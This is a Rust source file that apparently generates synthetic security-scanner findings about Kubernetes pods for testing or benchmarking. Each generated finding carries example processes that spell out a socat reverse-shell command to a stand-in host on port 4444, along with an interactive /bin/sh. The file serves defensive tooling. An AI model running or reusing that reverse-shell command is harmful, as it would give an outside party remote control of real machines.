//! Findings as clusters of some size make them: many pods, few categories, thirteen months.

use finding::{
    Connection, Container, File, FindingClass, FindingResource, Kubernetes, MitreAttack, Pod, Process,
    Protocol, Severity, State, Tactic, Technique, Timestamp,
};
use serde_json::{Value, json};

/// Of thirteen months, in nanoseconds.
const SPAN: u64 = 396 * 86_400 * 1_000_000_000;
/// 2026-11-01, where the span ends.
const END: u64 = 1_793_491_200_000_000_000;

/// Ten minutes: how late a finding can come.
const DELAY: u64 = 600 * 1_000_000_000;

const CATEGORIES: [(&str, &str, Severity); 6] = [
    ("Execution: Socat Reverse Shell Detected", "SOCAT_REVERSE_SHELL_DETECTED", Severity::Medium),
    ("Reverse Shell", "REVERSE_SHELL", Severity::Critical),
    ("Added Binary Executed", "ADDED_BINARY_EXECUTED", Severity::Low),
    ("Added Library Loaded", "ADDED_LIBRARY_LOADED", Severity::Low),
    ("Malicious Script Executed", "MALICIOUS_SCRIPT_EXECUTED", Severity::High),
    ("Execution: Ingress Nightmare Vulnerability Execution", "INGRESS_NIGHTMARE", Severity::High),
];

/// The pod that a question asks for: one of twenty thousand.
pub(crate) const POD: (&str, &str) = ("team-7", "web-7-1287");

/// Repeatable chance (SplitMix64).
fn mixed(n: u64) -> u64 {
    let n = n.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let n = (n ^ (n >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    let n = (n ^ (n >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    n ^ (n >> 31)
}

/// Finding number `n` of `all`, in the order of their times within some minutes, as sensors send them; about 2.4 KB of JSON.
pub(crate) fn finding(n: u64, all: u64) -> FindingResource {
    let chance = mixed(n + 1);
    let (category, module, severity) = CATEGORIES[[0, 1, 2, 2, 2, 3, 3, 4, 4, 5][(chance % 10) as usize]];
    let time = END - SPAN + SPAN / all.max(1) * n + mixed(n ^ 0xabcd) % DELAY;
    let time = Some(Timestamp::from_nanos(i64::try_from(time).unwrap_or(i64::MAX)));
    let pod = mixed(n / 50) % 20_000;
    let (team, cluster) = (pod % 40, pod % 20);
    let (namespace, pod_name) = (format!("team-{team}"), format!("web-{team}-{pod}"));
    let id = format!("{:016x}{:016x}", chance, mixed(n ^ 0x5eed));
    let container = format!("{:064x}", u128::from(mixed(pod)) << 64 | u128::from(mixed(pod + 1)));
    let project = format!("project-{}", cluster / 4);
    let resource = format!("//container.googleapis.com/projects/{project}/locations/eu/clusters/c{cluster}");
    let image = format!("registry.example/team-{team}/web:v{}", chance % 100);

    let mut item = FindingResource::default();
    let finding = &mut item.finding;
    finding.parent = format!("projects/{project}/sources/vedette/locations/global");
    finding.name = format!("{}/findings/{id}", finding.parent);
    finding.canonical_name.clone_from(&finding.name);
    finding.resource_name.clone_from(&resource);
    category.clone_into(&mut finding.category);
    module.clone_into(&mut finding.module_name);
    finding.severity = severity;
    finding.finding_class = FindingClass::Threat;
    finding.state = if mixed(n ^ 0xac71).is_multiple_of(5) { State::Active } else { State::Inactive };
    finding.event_time = time;
    finding.create_time = time;
    finding.description =
        format!("A shell of {namespace}/{pod_name} takes its commands from 203.0.113.{}:4444.", chance % 250);
    finding.source_properties = [
        ("Pod_Namespace", namespace.clone()),
        ("Pod_Name", pod_name.clone()),
        ("Container_Name", "web".to_owned()),
        ("Container_Id", container),
        ("Container_Image_Uri", image.clone()),
        ("VM_Instance_Name", format!("node-{}", pod % 500)),
    ]
    .map(|(key, value)| (key.to_owned(), Value::from(value)))
    .into();
    let labels = Vec::new();
    let container =
        Container { name: "web".into(), uri: image, labels: labels.clone(), ..Container::default() };
    finding.containers = vec![container.clone()];
    let pods = vec![Pod { ns: namespace, name: pod_name, labels, containers: vec![container] }];
    finding.kubernetes = Kubernetes { pods, ..Kubernetes::default() };
    let process = |name: &str, path: &str, arguments: &[String]| Process {
        name: name.into(),
        binary: File {
            path: path.into(),
            size: 375_008,
            sha256: format!("{:064x}", mixed(chance % 9)),
            ..File::default()
        },
        args: arguments.to_vec(),
        ..Process::default()
    };
    let address = format!("TCP4:203.0.113.{}:4444", chance % 250);
    finding.processes = vec![
        process("sh", "/bin/sh", &["/bin/sh".into(), "-i".into()]),
        process(
            "socat",
            "/usr/bin/socat",
            &["socat".into(), address, "EXEC:/bin/sh,pty,stderr,setsid".into()],
        ),
    ];
    finding.connections = vec![Connection {
        destination_ip: format!("203.0.113.{}", chance % 250),
        destination_port: 4444,
        source_ip: format!("10.0.{}.{}", pod % 250, chance % 250),
        source_port: 40_000,
        protocol: Protocol::Tcp,
    }];
    finding.mitre_attack = MitreAttack {
        primary_tactic: Tactic::Execution,
        primary_techniques: vec![Technique::UnixShell],
        ..MitreAttack::default()
    };
    if let Value::Object(own) = json!({"confidence": {"level": "HIGH"}, "coverage": {"lost": "0"}}) {
        finding.vedette = own;
    }
    item.resource.name = resource;
    item.resource.display_name = format!("c{cluster}");
    "google.container.Cluster".clone_into(&mut item.resource.kind);
    item.resource.gcp_metadata.project_display_name = project;
    item
}
